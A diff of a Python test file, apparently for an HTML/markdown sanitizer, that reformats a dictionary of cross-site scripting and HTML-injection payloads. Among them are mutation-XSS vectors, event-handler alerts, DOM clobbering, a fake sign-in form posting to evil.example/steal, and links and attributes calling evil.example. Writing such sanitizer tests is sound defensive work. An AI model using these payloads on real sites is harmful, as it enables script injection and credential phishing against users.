@@ -24,7 +24,9 @@ PAYLOADS: dict[str, str] = {
     "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
     "svg use": "<svg><use href='https://evil.example/x.svg#a'/></svg>",
     "svg foreignObject": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
-    "math mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "math mutation": (
+        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
+    ),
     "form, style mutation": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
     "noscript mutation": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
     "style": "<style>body{display:none} *{background:url(https://evil.example/s)}</style>still here",
@@ -45,7 +47,9 @@ PAYLOADS: dict[str, str] = {
     "autofocus": "<input autofocus onfocus=alert(1)>",
     "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
     "marquee": "<marquee onstart=alert(1)>x</marquee>",
-    "dialog and popover": "<dialog open>Your session ended</dialog><div popover id=p>x</div><button popovertarget=p>x</button>",
+    "dialog and popover": (
+        "<dialog open>Your session ended</dialog><div popover id=p>x</div><button popovertarget=p>x</button>"
+    ),
     "form": "<form action=https://evil.example/steal><input name=password><button>Sign in again</button></form>",
     "form by attribute": "<button form=x formaction=javascript:alert(1)>x</button>",
     "body": "<body onload=alert(1) background=https://evil.example/b>",
@@ -67,9 +71,13 @@ PAYLOADS: dict[str, str] = {
     "picture text breaks out": '![" onerror=alert(1) x="](/static/icons/hyperagent.svg)',
     "link that pretends": "[https://bank.example/login](https://evil.example/login)",
     "link with ping": "<a href=/ ping=https://evil.example/ping download target=_self>x</a>",
-    "clobbering": "<a id=announcements name=cookie>x</a><img name=getElementById><form id=chat><input name=value></form>",
+    "clobbering": (
+        "<a id=announcements name=cookie>x</a><img name=getElementById><form id=chat><input name=value></form>"
+    ),
     "clobbering by heading": "# page-data\n\n<h1 id=page-data>x</h1>",
-    "page behaviour by attribute": "<button data-theme-toggle hx-get=https://evil.example x-on:click='alert(1)' @click='alert(1)'>x</button>",
+    "page behaviour by attribute": (
+        "<button data-theme-toggle hx-get=https://evil.example x-on:click='alert(1)' @click='alert(1)'>x</button>"
+    ),
     "classes": "<p class='visually-hidden modal menu failure'>x</p><code class='language-x button'>y</code>",
     "slots and parts": "<div slot=x part=y is=z contenteditable draggable=true inert hidden>x</div>",
     "aria": "<p aria-label='Approve' role=button tabindex=1 accesskey=a>x</p>",
